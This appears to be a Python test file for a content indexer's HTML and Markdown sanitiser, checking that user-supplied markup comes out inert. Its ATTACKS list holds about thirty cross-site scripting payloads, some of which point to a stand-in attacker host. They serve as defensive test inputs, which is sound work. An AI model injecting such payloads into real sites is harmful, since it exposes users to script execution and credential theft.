"""Whatever HTML a writer brings, what is shown can do nothing and keeps no ids of its own."""

from collections.abc import Collection
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from indexer.errors import PostError
from indexer.sources.markup.content import DEEPEST, plain_text, read_html
from indexer.sources.markup.render import read_markdown

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
    "<svg onload=alert(1)><script>alert(2)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="&#106;ava&#10;script:alert(1)">x</a>',
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](data:image/svg+xml,a)",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object><embed src=x>",
    "<form action=//evil.example><input name=q><button>go</button></form>",
    "<style>body { display: none }</style>",
    '<p style="position: fixed">x</p>',
    '<div id="main" class="skip-link" onclick="alert(1)">x</div>',
    '<h2 id="q" onmouseover=alert(1)>x</h2>',
    "<base href=//evil.example><meta http-equiv=refresh content=0><link rel=stylesheet href=x>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    '`<script>alert(1)</script>`',
    "# <img src=x onerror=alert(1)> heading",
    '<img alt="<h2>" src=x>',
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
]  # fmt: skip

ALLOWED: dict[str, Collection[str]] = {
    **dict.fromkeys(("h1", "h2", "h3", "h4", "h5", "h6"), ("id",)),
    **dict.fromkeys(("p", "div", "em", "strong", "ul", "ol", "li", "pre", "blockquote"), ()),
    **dict.fromkeys(("hr", "br", "b", "i", "span", "table", "tbody", "tr", "td"), ()),
    "a": {"href", "title"},
    "code": {"class"},
    "img": {"src", "alt", "title"},
}


class _Inspector(HTMLParser):
    """Collects the elements and attributes that are not known to be harmless."""

    def __init__(self) -> None:
        super().__init__()
        self.harmful: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.harmful += [tag] if tag not in ALLOWED else []
        self.harmful += [f"{tag} {name}" for name, _ in attrs if name not in ALLOWED.get(tag, ())]
        for name, value in attrs:
            scheme, colon, _ = (value or "").partition(":")
            if name in ("href", "src") and colon and scheme not in ("http", "https", "mailto"):
                self.harmful.append(f"{tag} {name} {value}")

    def handle_comment(self, data: str) -> None:
        self.harmful.append(f"comment {data}")


def harmful(html: str) -> list[str]:
    inspector = _Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.harmful


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("around", ["{}", "text {} text", "- {}\n\n> {}", "<div>\n{}\n</div>"])
def test_an_attack_does_nothing(attack: str, around: str) -> None:
    content = read_markdown(around.replace("{}", attack))
    assert harmful(content.html) == []


@pytest.mark.parametrize("hidden", ["script", "style", "iframe", "svg", "template", "textarea"])
def test_what_is_not_shown_is_not_text_either(hidden: str) -> None:
    content = read_html(f"<p>a</p><{hidden}>secret</{hidden}><!-- secret --><p>b</p>")
    assert [section.text for section in content.sections] == ["a\nb"]


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ('<a href="/x" target="_blank" name="n">x</a>', '<a href="/x">x</a>'),
        ('<a href="../y.md#z">x</a>', '<a href="../y.md#z">x</a>'),
        ('<a href="mailto:a@b.example">x</a>', '<a href="mailto:a@b.example">x</a>'),
        ('<img src="a.png" alt="b" width="100">', '<img src="a.png" alt="b" width="100">'),
        ('<img src="a.png" alt="b" width="100%">', '<img src="a.png" alt="b">'),
        ('<img alt="no source">', ""),
        ('<code class="language-c++ wide">x</code>', '<code class="language-c++">x</code>'),
        ('<code class="wide">x</code>', "<code>x</code>"),
        ('<p lang="de" dir="ltr" class="x">x</p>', '<p lang="de" dir="ltr">x</p>'),
        ('<td colspan="2">x</td>', "x"),
        ("<center>a</center>", "<div>a</div>"),
        ("<blink>a</blink>", "a"),
        ('<ol start="3"><li>a</li></ol>', '<ol start="3"><li>a</li></ol>'),
    ],
)
def test_harmless_html_is_kept(html: str, expected: str) -> None:
    assert read_html(html).html == expected


def test_html_that_is_nested_without_end_is_refused() -> None:
    levels = DEEPEST + 1
    for html in ("<div>" * levels, "<div></b>" * levels, "<UL><li>" * levels, "<b><p>" * levels):
        with pytest.raises(PostError) as error:
            read_html(html)
        assert str(error.value) == "HTML elements nested deeper than 500 levels; close them"


def test_long_html_is_not_deep() -> None:
    html = "<p>a<br><b>b</b><ul><li>c<li>d</ul><P>e" * 2000
    assert len(read_html(html).sections) == 1


def test_plain_text_is_one_line_of_words() -> None:
    assert plain_text("a <b>b</b><br>c<h2>d</h2><p>e &amp; f<script>g</script>") == "a b c d e & f"


@given(st.text(alphabet="<>/=\"'&; abimgsrcdvh12\n-!") | st.text())
def test_any_html_becomes_harmless(html: str) -> None:
    assert harmful(read_html(html).html) == []
